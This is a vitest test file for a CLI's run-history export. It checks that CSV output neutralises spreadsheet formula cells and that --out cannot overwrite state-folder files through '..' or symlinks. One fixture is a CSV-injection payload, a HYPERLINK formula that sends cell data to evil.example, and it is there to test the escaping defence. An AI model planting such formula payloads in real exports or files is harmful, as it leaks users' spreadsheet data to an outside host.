// Issue 10 "Writing": the export is meant for people and their spreadsheets
// (formula cells neutralised), never overwrites a file of the state folder,
// and a bad --out or --state is the user's to fix (exit 2, with a message).

import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CsvQueueStore } from '../../../packages/core/src/adapters/local/queue-csv-store';
import { CsvRunLog } from '../../../packages/core/src/adapters/local/run-log-csv';
import { exportRunHistoryCsv, exportRunHistoryJson } from '../../../packages/core/src/report';
import { runLogRow } from '../../contract/run-log.contract';
import { runMain } from '../cli/run-main';

async function* rows(...list: ReturnType<typeof runLogRow>[]) {
  yield* list;
}

async function text(write: (out: PassThrough) => Promise<unknown>): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(out);
  return Buffer.concat(chunks).toString('utf8');
}

describe('export for people', () => {
  it('neutralises cells a spreadsheet would run as formulas (OWASP), and leaves numbers alone', async () => {
    const csv = await text((out) =>
      exportRunHistoryCsv(
        rows(
          runLogRow({ item_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', run_id: '+1+1', trace_id: '-2' }),
          runLogRow({ item_id: '@SUM(A1)', run_id: '\tx', trace_id: '\r=1', article_id: 'safe' }),
        ),
        out,
        {},
        { end: true },
      ),
    );
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    expect(records[0]).toMatchObject({
      item_id: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      run_id: "'+1+1",
      trace_id: "'-2",
      cost_usd: '0.0123',
    });
    expect(records[1]).toMatchObject({ item_id: "'@SUM(A1)", run_id: "'\tx", trace_id: "'\r=1", article_id: 'safe' });
  });

  it('the queue table itself round-trips formula-like values unchanged', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'hostile-queue-'));
    try {
      const store = new CsvQueueStore({ stateDir: dir });
      await store.transact(() => ({ append: [{ id: 'f1', title: '=1+1', notes: '@me', brief: '-x' }], result: null }));
      expect((await store.list())[0]).toMatchObject({ id: 'f1', title: '=1+1', notes: '@me', brief: '-x' });
      expect(await readFile(join(dir, 'queue.csv'), 'utf8')).toContain(',=1+1,');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('--json: the rows as one JSON array', async () => {
    const json = await text((out) =>
      exportRunHistoryJson(rows(runLogRow({ item_id: 'a' }), runLogRow({ item_id: 'b' })), out, {}, { end: true }),
    );
    expect((JSON.parse(json) as Array<{ item_id: string }>).map((r) => r.item_id)).toEqual(['a', 'b']);
    expect(JSON.parse(await text((out) => exportRunHistoryJson(rows(), out, {}, { end: true })))).toEqual([]);
  });
});

describe('export --out and --state', () => {
  let top: string;
  let state: string;
  beforeEach(async () => {
    top = await mkdtemp(join(tmpdir(), 'hostile-export-'));
    state = join(top, 'state');
    await mkdir(state);
    await mkdir(join(state, 'incidents'));
    await mkdir(join(state, 'site'));
    await writeFile(join(state, 'queue.csv'), 'id,title\nq1,Human row\n');
    await new CsvRunLog({ stateDir: state }).append([runLogRow({ item_id: 'r1' })]);
  });
  afterEach(() => rm(top, { recursive: true, force: true }));

  it.each([
    'queue.csv',
    'run_log.csv',
    'runs.jsonl',
    'variables.json',
    'decision_log.json',
    'local_heartbeat.json',
    'queue.csv.lock',
    join('incidents', 'x.json'),
    join('site', 'index.html'),
  ])('refuses to write over <state>/%s (exit 2), leaving it as it was', async (name) => {
    const before = await readFile(join(state, name), 'utf8').catch(() => undefined);
    const run = await runMain(['export', '--state', state, '--out', join(state, name)]);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/would overwrite .* of the state folder/);
    expect(await readFile(join(state, name), 'utf8').catch(() => undefined)).toBe(before);
  });

  it('refuses a path into the state folder through another spelling (.., a link)', async () => {
    const run = await runMain(['export', '--state', state, '--out', join(top, 'x', '..', 'state', 'queue.csv')]);
    expect(run.code).toBe(2);
    await symlink(state, join(top, 'link'), 'dir');
    const linked = await runMain(['export', '--state', state, '--out', join(top, 'link', 'queue.csv')]);
    expect(linked.code).toBe(2);
    await symlink(join(state, 'queue.csv'), join(top, 'file-link.csv'));
    const fileLink = await runMain(['export', '--state', state, '--out', join(top, 'file-link.csv')]);
    expect(fileLink.code).toBe(2);
    expect(await readFile(join(state, 'queue.csv'), 'utf8')).toBe('id,title\nq1,Human row\n');
  });

  it('a missing folder, a file where a folder is needed, or a folder as the file: exit 2 with a message', async () => {
    await writeFile(join(top, 'plain-file'), 'x');
    const missing = await runMain(['export', '--state', state, '--out', join(top, 'nope', 'out.csv')]);
    expect(missing).toMatchObject({ code: 2 });
    expect(missing.stderr).toMatch(/does not exist/);
    const throughFile = await runMain(['export', '--state', state, '--out', join(top, 'plain-file', 'out.csv')]);
    expect(throughFile).toMatchObject({ code: 2 });
    expect(throughFile.stderr).toMatch(/is a file, not a folder/);
    const folder = await runMain(['export', '--state', state, '--out', top]);
    expect(folder).toMatchObject({ code: 2 });
    expect(folder.stderr).toMatch(/is a folder/);
    for (const run of [missing, throughFile, folder]) expect(run.stderr).not.toMatch(/unexpected error/);
  });

  it('another name in the state folder is fine', async () => {
    const run = await runMain(['export', '--state', state, '--out', join(state, 'blocked.csv')]);
    expect(run.code).toBe(0);
    expect(await readFile(join(state, 'blocked.csv'), 'utf8')).toContain(',r1,');
  });

  it('writes the export where it may, and --json reports it', async () => {
    const out = join(top, 'history.csv');
    const run = await runMain(['export', '--state', state, '--out', out, '--json']);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ rows: 1 });
    expect(await readFile(out, 'utf8')).toContain(',r1,');
  });

  it('a --state that is a file exits 2, for any command', async () => {
    await writeFile(join(top, 'state-file'), 'x');
    for (const argv of [
      ['export', '--state', join(top, 'state-file')],
      ['queue', 'list', '--state', join(top, 'state-file')],
      ['report', '--state', join(top, 'state-file', 'deeper')],
    ]) {
      const run = await runMain(argv);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(/--state .* is a file/);
    }
  });
});

describe('report --out', () => {
  let top: string;
  let state: string;
  beforeEach(async () => {
    top = await mkdtemp(join(tmpdir(), 'hostile-report-out-'));
    state = join(top, 'state');
    await mkdir(join(state, 'site'), { recursive: true });
    await writeFile(join(state, 'site', 'index.html'), 'the local site');
  });
  afterEach(() => rm(top, { recursive: true, force: true }));

  it('never writes into a folder the state folder owns, nor through a file (exit 2)', async () => {
    for (const out of [state, join(state, 'site')]) {
      const run = await runMain(['report', '--state', state, '--out', out]);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(/would write into .* of the state folder/);
    }
    expect(await readFile(join(state, 'site', 'index.html'), 'utf8')).toBe('the local site');
    await writeFile(join(top, 'plain-file'), 'x');
    const throughFile = await runMain(['report', '--state', state, '--out', join(top, 'plain-file', 'r')]);
    expect(throughFile.code).toBe(2);
    expect(throughFile.stderr).toMatch(/is a file, not a folder/);
  });
});
